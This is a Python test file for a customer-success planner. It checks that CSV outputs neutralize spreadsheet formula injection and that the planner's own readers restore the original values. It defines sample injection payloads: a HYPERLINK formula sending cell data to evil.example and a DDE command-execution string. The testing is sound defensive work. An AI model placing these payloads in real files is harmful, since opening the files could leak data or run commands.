"""Formula injection: every CSV the planner writes is neutralized, and reading a plan back undoes it.

One small generated book is turned hostile -- account, CSM, pool and contact
ids, names, emails, regions, locations, CRM ids and extra columns start with
each formula trigger (= + - @ tab CR) or a quote -- and run through solve,
reassign (a CSM leaves), coverage --out and export (csv, salesforce, json).
Every cell of every CSV written must then be safe to open in a spreadsheet,
and the planner's own readers must see the original text.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from planner.cli import app
from planner.csvsafe import FORMULA_TRIGGERS, restore
from planner.generate import generate_book, write_book
from planner.io import load_book
from planner.io.csvtext import cell_text, csv_record, frame_csv
from planner.plans import diff_plans, load_plan

AS_OF = dt.date(2026, 1, 15)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "'")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "'quoted",
)
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?")
runner = CliRunner()


def hostile(i: int, text: str) -> str:
    """`text` behind the i-th trigger (tab and CR are followed by '=': what the loader's strip would expose)."""
    prefix = TRIGGERS[i % len(TRIGGERS)]
    return prefix + ("=" if prefix in ("\t", "\r") else "") + text


def hostile_tables() -> dict[str, pd.DataFrame]:
    """A small generated book whose every kind of text cell starts with each trigger somewhere."""
    t = generate_book(accounts=70, csms=7, pools=2, seed=11, as_of=AS_OF)
    acc, csms, pools, locs, rel = (t[k].copy() for k in ("accounts", "csms", "pools", "locations", "relationships"))
    ids: dict[str, str] = {}
    ids.update({a: hostile(i, a) for i, a in enumerate(acc["account_id"]) if i % 2 == 0})
    ids.update({c: hostile(i, c) for i, c in enumerate(csms["csm_id"])})
    ids.update({p: hostile(i + 3, p) for i, p in enumerate(pools["pool_id"])})
    contacts = sorted(set(rel.loc[rel["kind"] == "knows", "target"]))
    ids.update({c: hostile(i, c) for i, c in enumerate(contacts)})
    regions = {r: hostile(i, r) for i, r in enumerate(sorted(set(acc["region"]) | set(csms["region"])))}
    places = {p: hostile(i, p) for i, p in enumerate(locs["location"])}

    def swap(series: pd.Series, mapping: dict[str, str]) -> pd.Series:
        return series.map(lambda v: mapping.get(v, v))

    def swap_list(series: pd.Series, mapping: dict[str, str]) -> pd.Series:
        return series.map(lambda v: ";".join(mapping.get(x, x) for x in str(v).split(";")) if isinstance(v, str) else v)

    # Every account has an owner on the roster today, so the reassignment plan can be read back
    # (a plan with accounts left unassigned is refused by load_plan: not this test's subject).
    known = set(csms["csm_id"]) | set(pools["pool_id"]) | {"digital"}
    acc.loc[~acc["current_owner"].isin(known), "current_owner"] = "digital"
    for col in ("account_id", "current_owner"):
        acc[col] = swap(acc[col], ids)
    acc["account_name"] = [hostile(i, n) for i, n in enumerate(acc["account_name"])]
    acc.loc[4, "account_name"] = "\t=1+1"
    acc.loc[5, "account_name"] = "\r=1+1"
    acc["region"] = swap(acc["region"], regions)
    acc["crm_id"] = [hostile(i, c) if i % 5 == 0 and c else c for i, c in enumerate(acc["crm_id"])]
    acc["note"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(acc))]
    acc["=SUM(A1)"] = "x"
    acc["delta"] = [("-5", "7", "-0.5")[i % 3] for i in range(len(acc))]
    csms["csm_id"] = swap(csms["csm_id"], ids)
    csms["name"] = [hostile(i, n) for i, n in enumerate(csms["name"])]
    csms["email"] = [hostile(i, e) if i % 2 else e for i, e in enumerate(csms["email"])]  # some CSMs stay loadable
    csms["region"] = swap(csms["region"], regions)
    csms["location"] = swap(csms["location"], places)
    pools["pool_id"] = swap(pools["pool_id"], ids)
    pools["name"] = [hostile(i + 2, n) for i, n in enumerate(pools["name"])]
    pools["regions"] = swap_list(pools["regions"], regions)
    pools["location"] = swap(pools["location"], places)
    locs["location"] = swap(locs["location"], places)
    locs["region"] = swap(locs["region"], regions)
    rel["source"] = swap(rel["source"], ids)
    rel["target"] = swap(rel["target"], ids)
    programs = t["programs"].copy()
    programs["name"] = [hostile(5, n) for n in programs["name"]]
    return {"accounts": acc, "csms": csms, "pools": pools, "programs": programs, "locations": locs,
            "relationships": rel}  # fmt: skip


def run(*args) -> str:
    r = runner.invoke(app, [str(a) for a in args])
    assert r.exit_code == 0, r.output
    return r.output


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    """The hostile book and every output folder made from it."""
    root = tmp_path_factory.mktemp("hostile")
    book_dir = write_book(hostile_tables(), root / "book")
    book = load_book(book_dir, as_of=AS_OF)
    ledger = root / "ledger.sqlite"
    common = ("--as-of", AS_OF.isoformat(), "--ledger", ledger)
    run("solve", book_dir, "--out", root / "plan", *common)
    leaver = book.csms["csm_id"].iloc[0]  # starts with '='
    run("reassign", book_dir, "--out", root / "reassign", f"--leaving={leaver}", *common)
    run("coverage", book_dir, "--out", root / "coverage", "--as-of", AS_OF.isoformat())
    for fmt in ("csv", "salesforce", "gainsight", "json"):
        run(
            "export",
            root / "plan",
            "--format",
            fmt,
            "--out",
            root / f"export_{fmt}",
            "--allow-draft",
            "--ledger",
            ledger,
        )
    return {"root": root, "book": book, "leaver": leaver}


def rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def records(path: Path) -> list[dict[str, str]]:
    """A CSV's records as a reader following the contract sees them: one leading quote stripped."""
    head, *body = rows(path)
    return [dict(zip([restore(h) for h in head], [restore(c) for c in r], strict=True)) for r in body]


def test_the_book_really_is_hostile(outputs):
    """The loader keeps the triggers (after stripping a leading tab/CR from the columns it reads)."""
    book = outputs["book"]
    acc = book.accounts
    for trigger in ("=", "+", "-", "@", "'"):
        assert any(a.startswith(trigger) for a in acc["account_id"])
        assert any(c.startswith(trigger) for c in book.csms["csm_id"])
    # `\t=1+1` in a column the loader reads loses its tab; an extra column keeps it.
    assert "\t=1+1" not in set(acc["account_name"]) and "=1+1" in set(acc["account_name"])
    assert "\t=1+1" in set(acc["note"]) and "\r=1+1" in set(acc["note"])


def test_every_cell_of_every_csv_written_is_safe_to_open(outputs):
    folders = ("plan", "reassign", "coverage", "export_csv", "export_salesforce", "export_gainsight", "export_json")
    files = [p for f in folders for p in sorted((outputs["root"] / f).glob("*.csv"))]
    names = {f"{p.parent.name}/{p.name}" for p in files}
    assert {
        "plan/assignments.csv",
        "plan/owners.csv",
        "reassign/handoffs.csv",
        "coverage/backups.csv",
        "coverage/bus_factor.csv",
        "coverage/csm_risk.csv",
        "export_csv/owner_changes.csv",
        "export_csv/rollback.csv",
        "export_csv/exceptions.csv",
        "export_salesforce/exceptions.csv",
    } <= names
    unsafe, quoted = [], 0
    for path in files:
        for line, row in enumerate(rows(path), start=1):
            for cell in row:
                quoted += cell.startswith("'")
                if cell.startswith(FORMULA_TRIGGERS) and not NUMBER.fullmatch(cell):
                    unsafe.append((f"{path.parent.name}/{path.name}", line, cell))
    assert not unsafe, f"{len(unsafe)} cells a spreadsheet would run, e.g. {unsafe[:5]}"
    assert quoted > 500  # the hostile text did reach the files, neutralized


def test_numbers_stay_numbers_and_text_that_looks_negative_stays_text(outputs):
    head, *body = rows(outputs["root"] / "plan" / "assignments.csv")
    col = {h: i for i, h in enumerate(head)}
    assert "'=SUM(A1)" in col and "=SUM(A1)" not in col  # a header is text too
    offsets = {r[col["utc_offset"]] for r in body}
    assert "-5" in offsets and not any(o.startswith("'") for o in offsets)  # a number: never quoted
    assert {r[col["delta"]] for r in body} == {"'-5", "7", "'-0.5"}  # the book's text "-5": text
    owners = records(outputs["root"] / "plan" / "owners.csv")
    assert any(o["region"].startswith("=") for o in owners)
    plan = load_plan(outputs["root"] / "plan")
    assert {r["delta"] for r in plan.assignments} == {"-5", "7", "-0.5"}
    assert {r["=SUM(A1)"] for r in plan.assignments} == {"x"}


@pytest.mark.parametrize("row", [4, 5])
def test_the_loaders_tab_strip_is_harmless(outputs, row):
    """Accounts named '\\t=1+1' and '\\r=1+1' are read as '=1+1' (the loader strips the columns it reads).

    The strip exposes the '=', and every output neutralizes it: '=1+1 wherever the name is written.
    """
    book, root = outputs["book"], outputs["root"]
    account = book.accounts["account_id"].iloc[row]
    assert book.accounts["account_name"].iloc[row] == "=1+1"
    written = {}
    for path in sorted(p for p in root.glob("*/*.csv") if p.parent.name != "book"):
        head, *body = rows(path)
        if "account_id" in head and "account_name" in head:
            i, j = head.index("account_id"), head.index("account_name")
            written.update({f"{path.parent.name}/{path.name}": r[j] for r in body if restore(r[i]) == account})
    assert {"plan/assignments.csv", "reassign/assignments.csv", "coverage/bus_factor.csv"} <= set(written)
    assert set(written.values()) == {"'=1+1"}


def test_load_plan_and_plans_diff_see_the_original_text(outputs):
    book, root = outputs["book"], outputs["root"]
    raw = rows(root / "plan" / "assignments.csv")
    ids = list(book.accounts["account_id"])
    assert [r[0] for r in raw[1:]] != ids  # the file holds the neutralized ids ...
    plan = load_plan(root / "plan")
    assert [r["account_id"] for r in plan.assignments] == ids  # ... the reader gives back the book's
    assert {r["note"] for r in plan.assignments} == {restore(c) for c in {r[raw[0].index("note")] for r in raw[1:]}}
    assert {r["note"] for r in plan.assignments} == set(book.accounts["note"])
    assert set(plan.owners) >= set(book.csms["csm_id"]) | set(book.pools["pool_id"])
    csm_names = dict(zip(book.csms["csm_id"], book.csms["name"], strict=True))
    assert {o: plan.owners[o]["name"] for o in csm_names} == csm_names
    assert {o: plan.owners[o]["email"] for o in csm_names} == dict(
        zip(book.csms["csm_id"], book.csms["email"], strict=True)
    )

    reassigned = load_plan(root / "reassign")
    owners = set(book.csms["csm_id"]) | set(book.pools["pool_id"]) | {"digital"}
    left = [r for r in reassigned.assignments if r["previous_owner"] == outputs["leaver"]]
    assert left and all(r["owner_id"] in owners - {outputs["leaver"]} for r in left)

    diff = diff_plans(root / "plan", root / "reassign")
    assert diff.moved and not diff.only_in_a and not diff.only_in_b
    assert {m.account_id for m in diff.moved} <= set(ids)
    assert {m.from_owner for m in diff.moved} | {m.to_owner for m in diff.moved} <= owners
    assert any(m.account_id.startswith(TRIGGERS) for m in diff.moved)
    assert {d.owner_id for d in diff.owners} <= owners


def test_export_of_a_hostile_plan_neutralizes_text_and_routes_formula_keys_to_exceptions(outputs):
    book, root = outputs["book"], outputs["root"]
    ids = set(book.accounts["account_id"])
    crm = dict(zip(book.accounts["account_id"], book.accounts["crm_id"], strict=True))
    formula_keys = {a for a, c in crm.items() if c.startswith(TRIGGERS)}
    assert formula_keys

    # Generic CSV: every cell is text to neutralize, keys included; a reader gets the original back.
    generic = records(root / "export_csv" / "owner_changes.csv")
    skipped = {e["account_id"] for e in records(root / "export_csv" / "exceptions.csv") if e["file"] == "export"}
    assert {r["account_id"] for r in generic} | skipped == ids
    assert all(r["crm_id"] == crm[r["account_id"]] for r in generic)
    assert formula_keys & {r["account_id"] for r in generic}

    # CRM load files: a key is never altered, so a formula key is an exception instead.
    for fmt, load in (("salesforce", "salesforce_account_owners.csv"), ("gainsight", "gainsight_company_csm.csv")):
        head, *body = rows(root / f"export_{fmt}" / load)
        assert body, fmt
        exceptions = {
            e["account_id"]: e["reason"]
            for e in records(root / f"export_{fmt}" / "exceptions.csv")
            if e["file"] == "export"
        }
        assert formula_keys <= set(exceptions) <= ids, fmt
    gainsight = {e["account_id"]: e["reason"] for e in records(root / "export_gainsight" / "exceptions.csv")}
    assert all("formula" in gainsight[a] for a in formula_keys)

    doc = json.loads((root / "export_json" / "owner_changes.json").read_text(encoding="utf-8"))
    assert [r["account_id"] for r in doc["records"]] == [r["account_id"] for r in generic]  # JSON: original text
    assert [r["crm_id"] for r in doc["records"]] == [r["crm_id"] for r in generic]


# -- the writer itself -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, text",
    [
        (-5.0, "-5"),
        (2.5, "2.5"),
        (-3, "-3"),
        (True, "true"),
        (None, ""),
        (float("nan"), ""),
        (pd.NaT, ""),
        (pd.Timestamp("2026-03-01"), "2026-03-01"),
        (dt.date(2026, 3, 2), "2026-03-02"),
        (("-a", "b"), "'-a;b"),
        ("-5", "'-5"),
        ("=1+1", "'=1+1"),
        ("'x", "''x"),
        ("\tx", "'\tx"),
        ("plain", "plain"),
        (float("-inf"), "'-inf"),
    ],
)
def test_cell_text_by_type(value, text):
    assert cell_text(value) == text
    if isinstance(value, str):
        assert restore(text) == value


def test_a_bare_cr_is_quoted_so_the_record_stays_one_line():
    line = csv_record(["a\rb", "=c"])
    assert line == '"a\rb",\'=c\n'
    assert frame_csv(pd.DataFrame({"=h": ["-1"], "n": [-1.0]})) == "'=h,n\n'-1,-1\n"


def test_the_generated_book_is_written_verbatim_and_needs_no_neutralizing(tmp_path):
    """A book is input: its cells are written as they are (the loader never strips a quote)."""
    tables = generate_book(accounts=60, csms=6, seed=2, as_of=AS_OF)
    for name, df in tables.items():
        for col in df.columns:
            texts = [v for v in df[col] if isinstance(v, str)]
            assert not [v for v in texts if v.startswith(FORMULA_TRIGGERS + ("'",))], (name, col)
    tables["accounts"].loc[0, "account_name"] = "'abc"
    tables["accounts"].loc[1, "account_name"] = "line\rbreak"
    write_book(tables, tmp_path / "book")
    book = load_book(tmp_path / "book", as_of=AS_OF)
    # The CR stays inside its cell (the record is not split); the loader then turns it into a space, with a warning.
    assert list(book.accounts["account_name"][:2]) == ["'abc", "line break"]
    assert len(book.accounts) == 60
    assert any(w.rule == "control_character" and w.column == "account_name" for w in book.warnings)
